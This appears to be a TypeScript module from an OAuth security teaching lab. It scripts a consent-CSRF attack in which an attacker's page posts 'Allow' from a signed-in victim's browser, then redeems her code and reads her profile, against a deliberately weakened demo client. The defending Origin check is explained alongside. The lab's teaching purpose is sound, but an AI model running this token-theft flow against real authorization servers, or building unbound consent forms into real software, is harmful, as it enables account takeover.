/**
 * Consent CSRF on the authorization server itself: a page of the attacker's posts "Allow" for the
 * attacker's own pending request from the victim's browser, where she is signed in, so the
 * server issues her code to the attacker's app. The hole this server had until issue 8.
 * @see [RFC 6749 §10.12](https://www.rfc-editor.org/rfc/rfc6749#section-10.12)
 */
import { rfc } from '../shared/spec-links.ts'
import { attackActors, defineAttack } from './attack-model.ts'
import {
  attackerCallbackUri,
  callApi,
  callbackUri,
  discoverServer,
  publicClient,
  serverRefusal,
  startLogin,
  stolenToken,
  victimSignsIn,
  waitForAttackerRecord,
} from './lab-client.ts'

const attackId = 'consent-csrf'
const scope = 'openid profile email orders:read'

export const consentCsrfAttack = defineAttack({
  id: attackId,
  title: 'Consent CSRF on the authorization server',
  goal: 'Get the victim’s approval for the attacker’s own app without her ever seeing its consent page, and so her code and tokens.',
  summary:
    'Alice is signed in at the authorization server. The attacker starts an authorization request for his own app (“Prize Draw”) in his own browser and copies the handle of the pending request from the page. Then he gets Alice to open a page of his that posts Allow for that handle from her browser. If the server does not check that the form comes from the browser that started the request, through its own page, it takes Alice’s session as the approval and sends her code to the attacker.',
  specs: [rfc(6749, '10.12'), rfc(9700, '4.7')],
  actors: [attackActors.victim, attackActors.attacker, attackActors.as, attackActors.rs],
  defence: {
    label: 'Defence: forms bound to the browser that started them',
    explanation:
      'The server accepts its sign-in and consent forms only from its own page (their Origin must be the server’s) and, where it can set cookies, only from the browser that started the request. The attacker’s page is another site: its post is refused with a page that says so, and nothing is approved.',
    spec: rfc(6749, '10.12'),
    side: 'server',
    whenOff:
      'The attacker’s app is grantlab-unbound-consent, a demo client for which this server accepts the forms from any site and any browser. Every other client’s forms are bound (decision 070).',
  },
  clients: [
    {
      clientId: 'grantlab-unbound-consent',
      when: 'defence-off',
      note: 'WEAKENED: its sign-in and consent forms are not bound to the browser. Redirects to the attacker’s server.',
    },
    {
      clientId: 'grantlab-lab-third-party',
      when: 'defence-on',
      note: 'Its unweakened twin, also redirecting to the attacker’s server.',
    },
    {
      clientId: 'grantlab-lab-spa',
      when: 'always',
      note: 'The app Alice signed in with earlier.',
    },
  ],
  steps: [
    {
      id: 'victim-signed-in',
      label: 'alice signs in (another app)',
      title: 'Alice is signed in at the authorization server',
      from: 'victim',
      to: 'as',
      kind: 'redirect',
      spec: rfc(6749, '3.1'),
      explanation:
        'Earlier today Alice signed in to an app of this server’s. Her browser keeps the server’s session; the server will not ask for her password again for a while.',
    },
    {
      id: 'attacker-starts',
      label: 'bob: /authorize for his app',
      title: 'The attacker starts a request for his app and copies its handle',
      from: 'attacker',
      to: 'as',
      kind: 'redirect',
      spec: rfc(6749, '4.1.1'),
      explanation:
        'In his own browser the attacker opens an authorization request for Prize Draw, with his own PKCE challenge. The server’s page carries the pending request’s handle in a hidden field; he copies it.',
    },
    {
      id: 'forged-post',
      label: 'alice opens his page: it posts Allow',
      title: 'Alice opens the attacker’s page, which posts Allow from her browser',
      from: 'attacker',
      to: 'victim',
      kind: 'redirect',
      spec: rfc(9700, '4.7'),
      explanation:
        '“You have won a prize!” The page submits a hidden form to the server’s consent endpoint at once: the handle and decision=approve. Alice’s browser sends it, as browsers send any form, and her session goes along (the attacker’s page is on the same site, another origin).',
    },
    {
      id: 'server-decides',
      label: 'server: Allow from which page?',
      title: 'The server decides whether the Allow counts',
      from: 'victim',
      to: 'as',
      kind: 'redirect',
      spec: rfc(6749, '10.12'),
      explanation:
        'The post says Allow and comes with Alice’s session. Whether it counts depends on one check: did it come from the server’s own page, in the browser that started the request? (Its Origin says no.)',
    },
    {
      id: 'attacker-redeems',
      label: 'POST /token (code, his verifier)',
      title: 'The attacker’s server gets Alice’s code and redeems it',
      from: 'attacker',
      to: 'as',
      kind: 'request',
      spec: rfc(6749, '4.1.3'),
      explanation:
        'The code went to Prize Draw’s redirect URI, the attacker’s server. He redeems it with his own verifier.',
    },
    {
      id: 'attacker-uses',
      label: 'GET /api/profile as alice',
      title: 'The attacker calls the API as Alice',
      from: 'attacker',
      to: 'rs',
      kind: 'request',
      spec: rfc(6750, '2.1'),
      explanation: 'Alice approved nothing, yet the attacker’s app has her tokens.',
    },
  ],
  async run(ctx) {
    const clientId = ctx.defence ? 'grantlab-lab-third-party' : 'grantlab-unbound-consent'
    const redirectUri = attackerCallbackUri(ctx.attackerOrigin)
    const since = ctx.now()
    const as = await ctx.step('victim-signed-in', async (s) => {
      const as = await discoverServer(s, ctx.issuer)
      const signedIn = await victimSignsIn(ctx.victim, s, as, {
        clientId: 'grantlab-lab-spa',
        redirectUri: callbackUri(ctx.appOrigin, attackId),
        scope: 'profile',
      })
      s.show({ label: 'Where Alice’s browser came back', value: signedIn.returned.href })
      s.summary('Alice is signed in at the server.')
      return as
    })
    const { bob, pending } = await ctx.step('attacker-starts', async (s) => {
      const bob = await startLogin(as, { clientId, redirectUri, scope, state: true, pkce: true })
      const page = await ctx.attacker.open(bob.url, s)
      const pending = /name="pending" value="([^"]*)"/.exec(page.html ?? '')?.[1]
      if (!pending) throw new Error('The server’s page carries no pending request handle.')
      s.show({ label: 'The attacker’s authorization request', value: bob.url, format: 'url' })
      s.show({ label: 'The handle he copied from the page', value: pending })
      s.summary('The attacker holds the handle of a pending request for his app.')
      return { bob, pending }
    })
    const landed = await ctx.step('forged-post', async (s) => {
      const forged = new URL(`${ctx.attackerOrigin}/attacker/csrf`)
      forged.searchParams.set('to', `${as.issuer}/authorize/consent`)
      forged.searchParams.set('pending', pending)
      forged.searchParams.set('decision', 'approve')
      const page = await ctx.victim.open(forged.href, s)
      s.show({ label: 'The attacker’s page Alice opened', value: forged.href, format: 'url' })
      s.summary('Alice’s browser posted the forged form.')
      return page
    })
    const code = await ctx.step('server-decides', async (s) => {
      const refused = serverRefusal(landed)
      if (refused) {
        throw ctx.stopped(refused, {
          check: 'form bound to the browser',
          spec: rfc(6749, '10.12'),
          by: 'authorization server',
          expected: { code: 'access_denied', text: /another site/ },
        })
      }
      const record = await waitForAttackerRecord(
        s,
        ctx.attackerOrigin,
        since,
        (r) => r.channel === 'redirect' && new URL(r.url).searchParams.get('state') === bob.state,
      )
      const code = new URL(record.url).searchParams.get('code')
      if (!code) throw new Error(`The attacker’s server got no code: ${record.url}`)
      s.show({ label: 'What the attacker’s server received', value: record.url, format: 'url' })
      s.summary('The server took the forged Allow: Alice’s code went to the attacker’s app.')
      return code
    })
    const accessToken = await ctx.step('attacker-redeems', async (s) => {
      const response = await s.fetch(String(as.token_endpoint), {
        method: 'POST',
        body: new URLSearchParams({
          grant_type: 'authorization_code',
          code,
          code_verifier: bob.verifier ?? '',
          redirect_uri: redirectUri,
          client_id: publicClient(clientId).client.client_id,
        }),
      })
      const body = (await response.json()) as { access_token?: string }
      if (!response.ok || !body.access_token) {
        throw new Error(`The server refused the code (${response.status}).`)
      }
      s.summary('The attacker’s app holds Alice’s tokens.')
      return body.access_token
    })
    const profile = await ctx.step('attacker-uses', async (s) => {
      const answer = await callApi(s, ctx.appOrigin, '/api/profile', accessToken)
      s.show({ label: 'The API’s answer', value: JSON.stringify(answer.body), format: 'json' })
      s.summary(`The API answered ${answer.status} with Alice’s profile.`)
      return answer.body
    })
    return {
      status: 'succeeded',
      summary: 'The server took a form posted by the attacker’s page as Alice’s approval.',
      loot: {
        summary: 'Alice’s tokens for an app she never approved.',
        tokens: [stolenToken('Alice’s access token, for the attacker’s app', accessToken)],
        values: [{ label: 'Alice’s profile', value: JSON.stringify(profile), format: 'json' }],
      },
    }
  },
})
